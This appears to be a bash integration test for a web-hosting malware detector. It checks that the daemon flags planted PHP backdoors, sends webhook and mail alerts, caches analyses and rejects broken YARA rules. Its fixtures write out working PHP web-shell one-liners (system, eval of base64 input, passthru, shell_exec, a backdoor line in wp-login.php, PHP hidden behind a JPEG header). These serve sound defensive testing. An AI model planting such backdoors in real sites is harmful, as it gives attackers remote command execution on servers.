#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# What unknown code does, judged by the running daemon: a shell written into a
# plugin no index knows reaches the customer's webhook at once as malicious; a
# backdoor line in WordPress's wp-login.php is malicious, in an unknown plugin
# file malicious or suspicious; Debian's real application trees copied in
# raise nothing above info; one analysis for a content copied into 500
# webspaces; a rule file that does not compile is refused on reload with the
# old rules kept; empty files and a release's .htaccess are no evidence.
. "$(dirname "$0")/../lib/lib.sh"
need_root
D=$T_TMP
mount_tmpfs "$D/m" 1g
WP=$(fixture_tree wordpress) || { fail "fixture wordpress"; t_done; exit 1; }
MW=$(fixture_tree mediawiki) || { fail "fixture mediawiki"; t_done; exit 1; }
DW=$(fixture_tree dokuwiki) || { fail "fixture dokuwiki"; t_done; exit 1; }
PY=/usr/bin/python3
ws() { echo "$D/m/vhosts/$1/httpdocs"; }
NCOPIES=500
for c in alice bob; do mkdir -p "$(ws $c)"; done
for i in $(seq 1 $NCOPIES); do mkdir -p "$(ws "t$i")"; done
copy_tree "$WP" "$(ws alice)/blog"
P=$(ws alice)/blog/wp-content/plugins/acme-forms
mkdir -p "$P/includes"
# a shell there before the daemon starts: the baseline analyses it too
printf '<?php\n@system($_SERVER["HTTP_X_CMD"]);\n' > "$P/old-shell.php"
# ... and PHP behind an image header, in an upload folder
mkdir -p "$(ws alice)/blog/wp-content/uploads/2023/11"
printf '\xff\xd8\xff\xe0\0\x10JFIF\0<?php system($_GET["c"]); ?>' > "$(ws alice)/blog/wp-content/uploads/2023/11/logo.jpg"
printf '<?php\n/* Plugin Name: Acme Forms */\nrequire __DIR__ . "/includes/render.php";\n' > "$P/acme-forms.php"
printf '<?php\nfunction acme_render($f) {\n\treturn htmlspecialchars($f);\n}\n' > "$P/includes/render.php"
mkdir -p "$D/rules"
cp "$WSID_TOP"/rules/*.yar "$D/rules/"

start_receivers "$D" hook
HP=$(cat "$D/hook.port") SP=$(cat "$D/smtp.port")
daemon_config "$D" \
	"classify:" "  update_window: 1s" \
	"analysis:" "  rules: ['$D/rules/*.yar']" "  max_size: 2m" "  severity: {write-of-input: info}" \
	"customers:" \
	"  alice:" "    webhook: {url: 'http://127.0.0.1:$HP/hook', secret: s3cret}" "    email: alice@example.com" \
	"notify:" "  digest_interval: 60s" "  smtp: {url: 'smtp://127.0.0.1:$SP', from: wsid@node.example}"
daemon_start "$D" || { fail "daemon start"; t_done; exit 1; }
sqlq() { sqlite3 "$D/db/wsid.db" "$@"; }
st() { "$WSIDCTL" --socket "$D/ctl.sock" status --json | $PY -c "import json,sys; print(json.load(sys.stdin)['$1'])"; }
waitfor() { local t=$1; shift; for _ in $(seq 1 $((t * 10))); do "$@" && return 0; sleep 0.1; done; return 1; }
hooks() { $PY - "$D/$1.log" "${@:2}" <<'PY'
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
recs = [r for r in recs if not r.get("start") and r.get("status") == 200]
evs = [e for r in recs for e in json.loads(r["body"]).get("events", [])]
print(eval(sys.argv[2]))
PY
}
check_eq "baseline: the shell already there is malicious" "malicious critical baseline" "$(evq "$D" 'path$=/acme-forms/old-shell.php' -- verdict severity source)"
check_eq "baseline: PHP behind a JPEG header in uploads is malicious" "malicious critical baseline" "$(evq "$D" 'path$=/2023/11/logo.jpg' -- verdict severity source)"
check_eq "baseline: nothing else raised for the unknown plugin" 2 "$(evq "$D" customer=alice severity=critical -- count)"
check_eq "baseline: WordPress's release files (verdict ok) not analysed" 0 "$(sqlq "SELECT count(*) FROM files f JOIN analysis a ON a.sha256=f.sha256 WHERE f.verdict='ok'")"
check "baseline: the plugin's code analysed ($(sqlq "SELECT count(*) FROM analysis") contents)" test "$(sqlq "SELECT count(*) FROM analysis")" -ge 3
check_eq "status: the rules version is a SHA-256" 64 "$(st rules_version | tr -d '\n' | wc -c)"

# -- a shell written into the unknown plugin (by root: any process) reaches the
#    webhook at once as malicious, the finding named
printf '<?php\n$k = "x";\nif (isset($_POST["k"])) { eval(base64_decode($_POST["k"])); }\n' > "$P/includes/cache-helper.php"
waitfor 10 bash -c "$(declare -f hooks); PY=$PY D=$D hooks hook 'len([e for e in evs if e[\"path\"].endswith(\"cache-helper.php\")])' | grep -qx 1"
check_eq "shell in an unknown plugin: webhook at once, malicious, critical" "malicious critical" \
	"$(hooks hook '" ".join((lambda e: [e["verdict"], e["severity"]])([e for e in evs if e["path"].endswith("cache-helper.php")][0]))')"
check "shell: the reason names the finding and its line" bash -c "$(declare -f hooks); PY=$PY D=$D hooks hook '[e for e in evs if e[\"path\"].endswith(\"cache-helper.php\")][0][\"reason\"]' | grep -q 'exec-of-input (high, line 3'"
check_eq "shell: the webhook's detail lists the findings" "exec-of-input 3" \
	"$(hooks hook '(lambda f: "%s %s" % (f["class"], f["line"]))([e for e in evs if e["path"].endswith("cache-helper.php")][0]["detail"]["analysis"]["findings"][0])')"

waitfor 10 bash -c "grep -l 'cache-helper.php' '$D/mail/'*.eml >/dev/null 2>&1"
check "shell: the customer's mail names the finding, its line and excerpt" bash -c "grep -h -A3 'cache-helper.php' '$D/mail/'*.eml | grep -q 'exec-of-input (high, line 3: .*eval(base64_decode'"

# -- a backdoor line added to wp-login.php: tampered becomes malicious
sed -i '1a if (isset($_REQUEST["wp_c"])) { system($_REQUEST["wp_c"]); }' "$(ws alice)/blog/wp-login.php"
wsync "$D"
check_eq "backdoor in wp-login.php: malicious" "malicious critical" "$(evq "$D" 'path$=/blog/wp-login.php' -- verdict severity)"
check "wp-login.php: the reason gives the line" bash -c "'$WSIDCTL' --db '$D/db/wsid.db' events | grep wp-login.php | grep -q 'line 2'"

# -- a backdoor line appended to an unknown plugin file
echo 'if (!empty($_COOKIE["z"])) { $f = $_COOKIE["z"]; $f($_COOKIE["a"]); }' >> "$P/includes/render.php"
wsync "$D"
v=$(evq "$D" 'path$=/acme-forms/includes/render.php' -- verdict)
check "backdoor in an unknown plugin file: malicious or suspicious (got $v)" bash -c "[ '$v' = malicious ] || [ '$v' = suspicious ]"

# -- Debian's application trees copied in: nothing above info
n0=$(evq "$D" customer=bob -- count)
copy_tree "$WP" "$(ws bob)/wp"
copy_tree "$MW" "$(ws bob)/wiki"
copy_tree "$DW" "$(ws bob)/doku"
wsync "$D" 600
# what the analysis raises (the classification's own alarms on a live copy of
# a whole tree are counted apart: see doc/analysis.md)
raised() { events_json "$D" | $PY -c 'import json,sys
an = sys.argv[1] == "analysis"
n = 0
for l in sys.stdin:
    e = json.loads(l)
    if e["customer"] != "bob" or e["severity"] not in ("warning", "critical"): continue
    if an != (e["verdict"] == "malicious" or e["reason"].startswith(("malicious code", "suspicious code"))): continue
    n += 1
    if an: print("  raised:", e["path"], e["verdict"], e["reason"][:200], file=sys.stderr)
print(n)' "$1"; }
# the issue's bound for Debian's real code: at most 0.5 % of its PHP files
nphp=$(find "$(ws bob)" -name '*.php' | wc -l)
na=$(raised analysis)
check "real trees (wordpress, mediawiki, dokuwiki): the analysis raises $na of $nphp PHP files (at most 0.5 %)" test $((na * 200)) -le "$nphp"
# ... and the classification raises nothing either: MediaWiki's fetch.umd.js,
# a script WordPress ships too, is the unknown wiki's own copy (new, info)
nc=$(raised other 2>/dev/null)
check_eq "real trees: the classification raises nothing above info on the live copy" 0 "$nc"
[ "$nc" = 0 ] || events_json "$D" | $PY -c 'import json,sys
for l in sys.stdin:
    e = json.loads(l)
    if e["customer"] == "bob" and e["severity"] in ("warning", "critical"): print("#  ", e["path"], e["verdict"], e["reason"][:160])'
check_eq "fetch.umd.js: new, info" "new info" "$(evq "$D" 'path$=/fetch-polyfill/fetch.umd.js' -- verdict severity)"

# -- empty files are no evidence; a release's .htaccess in an upload dir neither
: > "$(ws bob)/wp/wp-content/uploads-empty.php" 2>/dev/null || true
mkdir -p "$(ws bob)/wiki/images/deleted"
cp "$MW/images/.htaccess" "$(ws bob)/wiki/images/deleted/.htaccess" 2>/dev/null || printf 'Deny from all\n' > "$(ws bob)/wiki/images/deleted/.htaccess"
wsync "$D"
check_eq "an empty file: not foreign, nothing raised" "info" "$(evq "$D" 'path$=/wp/wp-content/uploads-empty.php' -- severity)"
check_eq "a release's deny-all .htaccess in uploads: nothing raised" "info" "$(evq "$D" 'path$=/images/deleted/.htaccess' -- severity)"

# -- a name alone does not decide: DokuWiki's extension manager (the web
#    server) writes conf/plugins.local.php.bak, PHP that does nothing found and
#    that no web server runs by that name
chmod 711 "$D"  # the writers below are other users
mkdir -p "$(ws bob)/doku/conf" && chown -R www-data "$(ws bob)/doku/conf"
setpriv --reuid=www-data --regid=www-data --clear-groups sh -c "printf '<?php\n\$plugins[\"popularity\"] = 0;\n' > '$(ws bob)/doku/conf/plugins.local.php.bak'"
wsync "$D"
check_eq "plugins.local.php.bak written by the web server: info, not critical" "info" "$(evq "$D" 'path$=/doku/conf/plugins.local.php.bak' -- severity)"
# ... while PHP in an image name that does something stays raised
setpriv --reuid=www-data --regid=www-data --clear-groups sh -c "printf '<?php @eval(\$_POST[\"p\"]);\n' > '$(ws bob)/doku/conf/logo.txt'"
wsync "$D"
check_eq "PHP that runs input in a .txt written by the web server: malicious" "malicious critical" "$(evq "$D" 'path$=/doku/conf/logo.txt' -- verdict severity)"

# -- a tenant (an unprivileged uid) drops a shell into its own plugin dir
chown -R 1234:1234 "$P"
setpriv --reuid=1234 --regid=1234 --clear-groups sh -c "printf '<?php\n\$c = \$_COOKIE[\"c\"];\nshell_exec(\$c);\n' > '$P/includes/loader.php'"
waitfor 10 bash -c "$(declare -f hooks); PY=$PY D=$D hooks hook 'len([e for e in evs if e[\"path\"].endswith(\"loader.php\")])' | grep -qx 1"
check_eq "a tenant's shell: the webhook at once, malicious" "malicious" "$(hooks hook '[e for e in evs if e["path"].endswith("loader.php")][0]["verdict"]')"

# -- a finding class the admin set to info does not raise: a form that writes
#    the posted body to a posted name (write-of-input, weak)
printf '<?php\n$f = $_POST["name"];\nfile_put_contents(__DIR__ . "/" . $f, $_POST["body"]);\n' > "$P/editor.php"
wsync "$D"
check "the sample alone is suspicious (write-of-input) to wsidctl analyse" bash -c "'$WSIDCTL' analyse --no-default-rules --rules '$D/rules/*.yar' '$P/editor.php' 2>/dev/null | grep -q '^SUSPICIOUS .*write-of-input'"
check_eq "analysis.severity write-of-input: info: the file is new, info" "new info" "$(evq "$D" 'path$=/acme-forms/editor.php' -- verdict severity)"

# -- the cache: one content copied into 500 webspaces is analysed once
a0=$(st analyses) h0=$(st analysis_cache_hits)
for i in $(seq 1 $NCOPIES); do
	printf '<?php\n/* 500 */ if (isset($_GET["q"])) { passthru($_GET["q"]); }\n' > "$(ws "t$i")/helper.php"
done
wsync "$D" 300
check_eq "500 webspaces, one content: one analysis" 1 "$(( $(st analyses) - a0 ))"
check_eq "500 webspaces: the others from the cache or the same analysis" $NCOPIES "$(evq "$D" verdict=malicious 'path$=/httpdocs/helper.php' -- count)"
check_eq "the cache holds one row for the content" 1 "$(sqlq "SELECT count(DISTINCT a.sha256) FROM analysis a JOIN files f ON f.sha256=a.sha256 WHERE f.relpath=CAST('helper.php' AS BLOB)")"

# -- a rule file that does not compile: the reload is refused, the old rules stay
rv=$(st rules_version)
printf 'rule broken { strings: $a = "x" condition: $a and }\n' > "$D/rules/broken.yar"
out=$("$WSIDCTL" --socket "$D/ctl.sock" reload 2>&1); rc=$?
check "reload with a broken rule file: refused" test $rc -ne 0
check "reload refused: the message names the file" bash -c "echo '$out' | grep -q broken.yar"
check_eq "the old rules stay" "$rv" "$(st rules_version)"
printf '<?php\nif (isset($_GET["e"])) { assert($_GET["e"]); }\n' > "$(ws alice)/blog/wp-content/plugins/acme-forms/x.php"
wsync "$D"
check_eq "still analysing with the old rules" malicious "$(evq "$D" 'path$=/acme-forms/x.php' -- verdict)"
rm -f "$D/rules/broken.yar"

# -- a rule update: the contents analysed under the old rules are judged again
#    in the background; a file the new rule matches is raised
printf '<?php\n$acme_banner = "ACME-ROGUE-TOKEN-7";\n' > "$P/banner.php"
wsync "$D"
check_eq "before the rule: the file is new (info)" "new info" "$(evq "$D" 'path$=/acme-forms/banner.php' -- verdict severity)"
printf 'rule local_acme\n{\n\tmeta:\n\t\tseverity = "high"\n\t\tclass = "local-rule"\n\tstrings:\n\t\t$a = "ACME-ROGUE-TOKEN-7"\n\tcondition:\n\t\t$a\n}\n' > "$D/rules/local.yar"
"$WSIDCTL" --socket "$D/ctl.sock" reload >/dev/null || fail "reload with a new rule file"
wsync "$D"
check "a new rules version" test "$(st rules_version)" != "$rv"
check_eq "rule update: the stored file judged again, malicious, source rules" "malicious critical rules" "$(evq "$D" 'path$=/acme-forms/banner.php' -- verdict severity source)"
check "rule update: the reason names the new rule's class" bash -c "'$WSIDCTL' --db '$D/db/wsid.db' events | grep banner.php | grep -q local-rule"
check "status: analysis_rejudged counts it" test "$(st analysis_rejudged)" -ge 1
check_eq "rule update: the 500 copies stay malicious (judged again, unchanged)" 0 "$(evq "$D" source=rules 'path$=/httpdocs/helper.php' -- count)"

# -- wsidctl files shows the analysis of a file's content
out=$("$WSIDCTL" --config "$D/wsid.yaml" files "$P/includes/cache-helper.php")
check "files: the analysis line (verdict, class, line)" grep -q "analysis: malicious: exec-of-input (high, line 3" <<<"$out"
check_eq "files --json: analysis.verdict and the first finding" "malicious exec-of-input" "$("$WSIDCTL" --config "$D/wsid.yaml" files --json "$P/includes/cache-helper.php" | $PY -c 'import json,sys; a=json.loads(sys.stdin.readline())["analysis"]; print(a["verdict"], a["findings"][0]["class"])')"

# -- wsidctl scan lists what the analysis finds, from the daemon's state and
#    standalone (walked and hashed), text and JSON
for mode in state standalone; do
	opt=(); [ $mode = standalone ] && opt=(--standalone)
	out=$("$WSIDCTL" --config "$D/wsid.yaml" scan "${opt[@]}" "$(ws alice)/blog" 2>/dev/null)
	check "scan ($mode): MALWARE wp-login.php with its finding and line" grep -qE "^MALWARE +$(ws alice)/blog/wp-login.php  \(exec-of-input, line 2" <<<"$out"
	check "scan ($mode): the shell in the plugin" grep -qE "^MALWARE +$P/includes/cache-helper.php  \(" <<<"$out"
	check "scan ($mode): the JPEG holding PHP, as the daemon" grep -qE "^MALWARE +$(ws alice)/blog/wp-content/uploads/2023/11/logo.jpg  \(php-in-image" <<<"$out"
	check_eq "scan ($mode): nothing listed from WordPress's release files" 0 "$(grep -E '^(MALWARE|SUSPICIOUS)' <<<"$out" | grep -vc -e /acme-forms/ -e /wp-login.php -e /2023/11/logo.jpg)"
done
check_eq "scan --json: the findings in \"analysis\"" "malicious exec-of-input" "$("$WSIDCTL" --config "$D/wsid.yaml" scan --json --standalone "$(ws alice)/blog" 2>/dev/null | $PY -c 'import json,sys
a = [x for x in json.load(sys.stdin)["analysis"] if x["path"].endswith("/blog/wp-login.php")][0]
print(a["verdict"], a["findings"][0]["class"])')"

daemon_stop
t_done
